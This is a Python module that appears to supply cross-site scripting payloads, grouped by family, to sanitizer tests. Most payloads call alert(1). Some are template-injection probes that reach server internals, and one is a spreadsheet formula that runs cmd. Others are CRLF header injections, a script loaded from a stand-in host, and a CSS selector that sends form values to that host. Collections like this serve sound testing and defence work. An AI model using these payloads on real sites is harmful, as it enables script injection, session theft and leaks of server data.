# ruff: noqa: E501 (payloads are not cut)
"""Texts that would run a script if any page took them for markup, by families.

Each calls ``alert``, which the tests listen for.
"""

from __future__ import annotations

from html import escape
from itertools import product
from urllib.parse import quote

RUN = "alert(1)"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script >",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<script>{RUN}//",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    "<script src=//x.invalid/a.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<script async defer>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href=data:,{RUN} /></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<math><script>{RUN}</script></math>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"<html><body><script>{RUN}</script></body></html>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<noscript><script>{RUN}</script></noscript>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
]

_TAGS = {
    "img": "src=x", "svg": "", "body": "", "video": "src=x", "audio": "src=x",
    "details": "open", "input": "autofocus", "select": "autofocus", "textarea": "autofocus",
    "button": "autofocus", "marquee": "", "iframe": "", "object": "data=x", "embed": "src=x",
    "a": "href=# tabindex=1 autofocus", "div": "contenteditable tabindex=1 autofocus",
    "style": "", "link": "rel=stylesheet href=x", "form": "", "dialog": "open",
    "mark": "tabindex=1 autofocus", "x": "tabindex=1 autofocus", "image": "src=x",
    "math": "tabindex=1 autofocus", "frameset": "", "table": "background=x", "source": "",
}  # fmt: skip
_EVENTS = [
    "onerror", "onload", "onfocus", "onanimationstart", "ontoggle", "onpointerenter", "onmouseover",
]  # fmt: skip
HANDLERS = [
    f"<{tag} {attributes} {event}={RUN}>"
    for (tag, attributes), event in product(_TAGS.items(), _EVENTS)
]

_OPENINGS = [
    '"', "'", "`", '">', "'>", "`>", '"/>', "</title>", "</textarea>", "</style>", "</script>",
    "-->", "--!>", "]]>", "</noscript>", "</template>", "</select>", "</option>", "</mark>",
    "</a>", "</p></article>", '\\">', "\\'>", '"}}>', "&quot;>", "&#34;>", "\n\n>", "\u2028\">",
]  # fmt: skip
_BODIES = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f" onfocus={RUN} autofocus tabindex=1 x=",
    f"<svg/onload={RUN}>",
]
BREAKOUTS = [opening + body for opening, body in product(_OPENINGS, _BODIES)]

ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}", f" javascript:{RUN}", f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}", "javascript:%61lert(1)",
    f"javascript://%0a{RUN}", f"javascript://x.example/%0d{RUN}", f"javascript:/*--></title>{RUN}",
    f"vbscript:{RUN}", f"livescript:{RUN}", f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    f"blob:javascript:{RUN}", f"http://x.example/'onmouseover={RUN}//",
    f'http://x.example/" onfocus={RUN} autofocus x="', f"https://x.example/<script>{RUN}</script>",
    "//x.invalid/a.js", "\\\\x.invalid\\a.js", f"http://javascript:{RUN}@x.example/",
]  # fmt: skip
LINKS = [
    form.format(address)
    for address, form in product(
        ADDRESSES[:12],
        [
            "<a href='{}'>đọc tiếp</a>",
            '<iframe src="{}"></iframe>',
            '<form action="{}"><button>tìm</button></form>',
            '<meta http-equiv=refresh content="0;url={}">',
            '<object data="{}"></object>',
        ],
    )
]

TEMPLATES = [
    "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}",
    "<%= alert(1) %>", "{%raw%}<script>alert(1)</script>{%endraw%}", "{{''.__class__.__mro__}}",
    "{{config}}", "{{request.environ}}", "{% print('<script>alert(1)</script>'|safe) %}",
    "[[alert(1)]]", "@(alert(1))", "*{alert(1)}", "{{{alert(1)}}}", "{{url_for.__globals__}}",
    "{{self.__init__.__globals__}}", "{{cycler.__init__.__globals__.os}}", "<%-alert(1)%>",
    "%(alert)s %s %n", "{0.__class__}", "{alert!r}", "{{$on.constructor('alert(1)')()}}",
    "<div ng-app>{{$eval.constructor('alert(1)')()}}</div>", "<x v-html=\"'<img src onerror=alert(1)>'\">",
]  # fmt: skip

_PLAIN = [f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>"]
ENCODED = [
    form(plain)
    for plain, form in product(
        _PLAIN,
        [
            escape,
            lambda text: escape(escape(text)),
            quote,
            lambda text: quote(quote(text)),
            lambda text: "".join(f"&#{ord(letter)};" for letter in text),
            lambda text: "".join(f"&#x{ord(letter):x}" for letter in text),
            lambda text: "".join(f"&#{ord(letter):07}" for letter in text),
            lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
            lambda text: "".join(f"\\x{ord(letter):02x}" for letter in text),
            lambda text: "".join(f"%u{ord(letter):04x}" for letter in text),
            lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
            lambda text: text.replace("<", "＜").replace(">", "＞"),
            lambda text: text.replace("<", "‹").replace(">", "›"),
            lambda text: text.replace("<", "<\u200b"),
            lambda text: text.replace("<", "<\0"),
            lambda text: text.replace("s", "ſ"),
            lambda text: text.replace("<", "%c0%bc"),
            lambda text: text.replace("<", "\\074"),
            lambda text: "\u202e" + text[::-1],
            lambda text: "\ufeff" + text,
            lambda text: "\u0338".join(text),
            lambda text: text.replace(" ", "\u3000"),
            lambda text: text.replace(" ", "/"),
            lambda text: text.replace(" ", "\x0c"),
            lambda text: f'"{text}"',
            lambda text: f"*{text}*",
            lambda text: f"title:{text} OR {text}",
            lambda text: f"+{text} -{text}",
        ],
    )
]

MUTATIONS = [
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<table><td><svg><desc><td><img src=x onerror={RUN}>",
    f"<svg><title><style><img src=x onerror={RUN}></style></title>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributename=x to=y>",
    f"<svg><a xlink:href=javascript:{RUN}><rect width=99 height=99></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{RUN}'/></svg>#x\">",
    f"<math><maction actiontype=statusline#{RUN} xlink:href=javascript:{RUN}>x</maction></math>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<base href='javascript:{RUN}//'><a href=x>x</a>",
    f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
    f"<embed code='data:text/html,<script>{RUN}</script>'>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<input type=image src=x onerror={RUN}>",
    f"<button form=search formaction=javascript:{RUN}>Tìm</button>",
    f"<input name=q form=search value='x' onfocus={RUN} autofocus>",
    "<form id=search><input id=q name=attributes></form>",
    "<a id=state></a><a id=state name=query href=javascript:alert(1)></a>",
    "<img name=currentScript><img name=cookie>",
]

STYLES = [
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<style>*{{background:url(javascript:{RUN})}}</style>",
    f"<p style='background:url(javascript:{RUN})'>",
    f"<p style=width:expression({RUN})>",
    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={RUN}>",
    f"<link rel=stylesheet href=data:,*{{x:expression({RUN})}}>",
    "<style>input[value^=a]{background:url(//x.invalid/a)}</style>",
    f"</style><script>{RUN}</script>",
    f"<p style=behavior:url(#x) onclick={RUN}>",
    f"<div style=position:fixed;inset:0 onpointerenter={RUN}>",
]

DATA = [
    f'"}};{RUN};//', f"');{RUN};//", f'");{RUN};("', f"\\\");{RUN};//", f"\u2028{RUN}\u2029",
    f"*/{RUN}/*", f"{RUN}//", f'{{"__proto__":{{"x":"<img src onerror={RUN}>"}}}}', f"callback={RUN}",
    f"</script><script>{RUN}</script>", f"<!--<script>{RUN}", f"]]><script>{RUN}</script><![CDATA[",
    f"<?xml-stylesheet href='javascript:{RUN}'?>", f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>&y;",
    f"=HYPERLINK(\"javascript:{RUN}\")", "@SUM(1+1)*cmd|' /C calc'!A0", f"+{RUN}", f"-{RUN}",
    f"<xsl:value-of select='{RUN}'/>", f"<a xmlns='http://www.w3.org/1999/xhtml' onfocus='{RUN}'/>",
    f"\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>", f"\r\nLocation: javascript:{RUN}",
]  # fmt: skip

POLYGLOTS = [
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/"
    f"</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
    f'\'">><marquee><img src=x onerror={RUN}></marquee>"></plaintext\\></|\\><plaintext/onmouseover={RUN}>',
    f"\"'`--></noscript></title></textarea></style></template></select></script><svg onload={RUN}>",
    f"\" onclick={RUN}//<button ' onclick={RUN}//> */ {RUN}//",
    f"'-{RUN}-' \"-{RUN}-\" `-${{{RUN}}}-`",
    f"</script><svg><script>{RUN}/&apos;<!--",
]

FAMILIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "breakouts": BREAKOUTS,
    "addresses": ADDRESSES,
    "links": LINKS,
    "templates": TEMPLATES,
    "encoded": ENCODED,
    "mutations": MUTATIONS,
    "styles": STYLES,
    "data": DATA,
    "polyglots": POLYGLOTS,
}
PAYLOADS = list(dict.fromkeys(payload for family in FAMILIES.values() for payload in family))
